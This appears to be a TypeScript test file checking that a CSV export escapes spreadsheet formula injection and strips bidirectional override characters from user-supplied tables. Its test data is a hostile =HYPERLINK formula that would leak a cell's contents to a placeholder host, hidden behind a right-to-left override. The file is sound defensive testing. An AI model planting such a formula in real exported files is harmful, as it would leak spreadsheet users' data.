/** A reader's own table in a spreadsheet: no cell of it is run there, and nothing in it turns round what stands beside it. */
import { csvParse } from 'd3-dsv';
import { describe, expect, it } from 'vitest';
import { shownCsv } from '../../src/export/showncsv.ts';
import { compose } from '../../src/figure/compose.ts';
import { stockOf } from '../../src/figure/stock.ts';
import { withTables } from '../../src/own/claims.ts';
import { ownThemesOf, themeId } from '../../src/own/themes.ts';
import { themesOf } from '../../src/themes/index.ts';
import { LEVELS, PLAIN } from '../atlas.ts';
import { tableOf } from './owntables.ts';

const OVERRIDE = '\u202e';
const FORMULA = '=HYPERLINK("http://a.test/?"&A1;"see")';
const EVIL = `${OVERRIDE}${FORMULA}`;

/** A table of which every text begins a formula, behind what turns it round. */
const TABLE = tableOf({
  title: EVIL,
  file: `${EVIL}.csv`,
  source: { title: EVIL, author: EVIL, issued: null, locator: EVIL },
  columns: [
    { id: 'a', name: EVIL, kind: 'category', unit: '' },
    { id: 'b', name: EVIL, kind: 'number', unit: EVIL },
  ],
  rows: [
    { line: 2, place: 'lyari', when: '2012', cells: [EVIL, 5] },
    { line: 3, place: 'saddar', when: '2012', cells: ['+1+1', -7] },
  ],
  maps: [
    { id: 'fill', kind: 'categories', column: 'a', title: EVIL },
    { id: 'count', kind: 'symbols', column: 'b', title: EVIL },
  ],
});

describe('shownCsv(figure) of a table of a reader’s own', () => {
  const levels = withTables(LEVELS, [TABLE]);
  const themes = [...themesOf(LEVELS.town), ...ownThemesOf([TABLE], levels.town)];
  const [fill, count] = TABLE.maps.map((map) => themeId(TABLE, map));
  const csv = shownCsv(
    compose(stockOf(levels, themes, 'light'), {
      ...PLAIN,
      fill: fill ?? '',
      show: [count ?? ''],
      day: '2012',
    }),
  );
  const rows = csvParse(csv);
  const own = rows.filter(({ theme }) => theme?.startsWith(TABLE.id));

  it('has the cells, units and sources of the table in it, none of which begins a formula', () => {
    expect(own.find(({ place, theme }) => place === 'lyari' && theme === fill)?.text).toBe(`'${FORMULA}`);
    expect(own.find(({ place, theme }) => place === 'saddar' && theme === fill)?.text).toBe("'+1+1");
    for (const row of rows)
      for (const cell of Object.values(row)) expect(/^[\s\p{C}]*[=+@]/u.test(cell ?? ''), cell).toBe(false);
  });

  it('keeps numbers numbers, also below zero', () => {
    const numbers = own.filter(({ theme }) => theme === count).map(({ place, number }) => [place, number]);
    expect(numbers).toContainEqual(['lyari', '5']);
    expect(numbers).toContainEqual(['saddar', '-7']);
  });

  it('turns nothing round', () => {
    expect(csv).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/u);
    expect(csv).toContain('HYPERLINK');
  });
});
